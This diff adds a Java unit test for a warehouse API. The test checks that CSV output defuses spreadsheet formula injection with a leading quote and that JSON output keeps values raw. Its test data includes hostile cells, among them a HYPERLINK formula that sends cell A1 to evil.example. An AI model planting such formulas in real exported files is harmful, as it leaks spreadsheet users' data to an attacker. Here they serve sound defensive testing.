@@ -6,6 +6,7 @@ import com.fasterxml.jackson.databind.JsonNode;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
 import java.nio.file.Path;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -132,6 +133,45 @@ class WarehouseApiTest {
             HttpResponse<String> ndjson = api.client.send(api.request("/sql").header("Accept", "application/x-ndjson")
                     .POST(HttpRequest.BodyPublishers.ofString(query)).build(), HttpResponse.BodyHandlers.ofString());
             assertThat(ndjson.body()).isEqualTo("{\"n\":1,\"s\":\"a,b\",\"d\":2.50}\n");
+        }
+    }
+
+    /**
+     * Published text that a spreadsheet would run as a formula ({@code =}, {@code +}, {@code -}, {@code @}, tab,
+     * carriage return first) is written to CSV behind a {@code '}, as OWASP recommends; numbers, negative ones
+     * included, stay numbers, and JSON answers keep the value as it was published.
+     */
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralisedAndJsonKeepsThemRaw() throws Exception {
+        try (TestServer api = TestServer.start(dataDirectory)) {
+            String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+            List<String> hostile = List.of(hyperlink, "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx", "safe");
+            StringBuilder events = new StringBuilder("[");
+            for (int i = 0; i < hostile.size(); i++) {
+                events.append(i == 0 ? "" : ",").append(TestServer.JSON.writeValueAsString(java.util.Map.of(
+                        "order_id", hostile.get(i), "total", i == 1 ? -5 : i)));
+            }
+            assertThat(api.postJson("/streams/orders", events.append(']').toString()).status()).isEqualTo(200);
+            api.awaitFlushed("orders");
+            String query = "SELECT order_id, total, -7 AS \"=n\" FROM streams.orders ORDER BY _offset";
+
+            HttpResponse<String> csv = api.client.send(api.request("/sql").header("Accept", "text/csv")
+                    .POST(HttpRequest.BodyPublishers.ofString(query)).build(), HttpResponse.BodyHandlers.ofString());
+            assertThat(csv.statusCode()).isEqualTo(200);
+            assertThat(csv.body()).isEqualTo("order_id,total,'=n\r\n"
+                    + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",0.00,-7\r\n"
+                    + "'+1+1,-5.00,-7\r\n"
+                    + "'-2+3,2.00,-7\r\n"
+                    + "'@SUM(1),3.00,-7\r\n"
+                    + "'\tx,4.00,-7\r\n"
+                    + "\"'\rx\",5.00,-7\r\n"
+                    + "safe,6.00,-7\r\n");
+
+            JsonNode json = sql(api, query).body();
+            for (int i = 0; i < hostile.size(); i++) {
+                assertThat(json.get("rows").get(i).get(0).asText()).as("JSON keeps the value").isEqualTo(hostile.get(i));
+            }
+            assertThat(json.get("columns").get(2).get("name").asText()).isEqualTo("=n");
         }
     }
 }
